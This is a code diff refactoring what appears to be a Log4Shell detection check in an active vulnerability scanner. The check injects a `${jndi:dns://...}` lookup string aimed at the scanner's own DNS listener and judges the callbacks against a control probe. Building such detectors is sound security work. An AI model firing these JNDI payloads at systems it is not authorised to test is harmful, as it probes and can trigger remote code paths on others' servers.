@@ -1,18 +1,17 @@
 import type { OutsideNames } from '../../../oracle/outside.ts';
-import { at, definePointCheck, type Nonce, type Point } from '../../define-active-check.ts';
+import { definePointCheck, type Point } from '../../define-active-check.ts';
+import { at, type Nonce, optional } from '../../experiment.ts';
 import type { LabTools } from '../../lab.ts';
-
-const ATTACK = 'JNDI lookup of our listener';
-const CONTROL = 'the name without anything that a log would do with it';
 
 const yearsAround = () => [-1, 0, 1].map((more) => new Date().getUTCFullYear() + more);
 
 function control(point: Point, { word }: Nonce, outside: OutsideNames) {
   const tag = `${word}-control`;
-  return at(point, CONTROL, `dns://${outside.hostFor(tag)}`, { calling: { tag, kind: 'dns', isControl: true } });
+  const label = 'the name without anything that a log would do with it';
+  return at(point, label, `dns://${outside.hostFor(tag)}`, { calling: { tag, kind: 'dns' }, isControl: true });
 }
 
-export default definePointCheck<string>({
+export default definePointCheck({
   id: 'log4shell',
   title: 'Log4Shell: Log4j evaluates lookups in logged input',
   cwe: 917,
@@ -36,15 +35,18 @@ export default definePointCheck<string>({
     plan(point, year, nonce, { outside }) {
       const { word, numbers } = nonce;
       const host = outside?.hostFor(word);
-      if (!outside || !host) return [];
+      if (!outside || !host) return undefined;
       const value = `\${jndi:dns://${year}-${numbers[0]}.${host}}`;
-      return [control(point, nonce, outside), at(point, ATTACK, value, { calling: { tag: word, kind: 'dns' } })];
+      return {
+        control: optional(control(point, nonce, outside)),
+        attack: optional(at(point, 'JNDI lookup of our listener', value, { calling: { tag: word, kind: 'dns' } })),
+      };
     },
-    judge(answers, _year, { numbers: [number] }) {
-      if (!answers.has(CONTROL)) return 'VOID';
-      const heard = answers.get(ATTACK)?.heard ?? [];
+    judge({ control, attack }, _year, { numbers: [number] }) {
+      if (!control) return 'VOID';
+      const heard = attack?.heard ?? [];
       if (yearsAround().some((year) => heard.some(({ detail }) => detail === `${year}-${number}`))) return 'PROVED';
-      if ((answers.get(CONTROL)?.heard ?? []).length > 0) return 'REFUTED';
+      if ((control.heard ?? []).length > 0) return 'REFUTED';
       return heard.length > 0 ? 'LIKELY' : 'VOID';
     },
   },
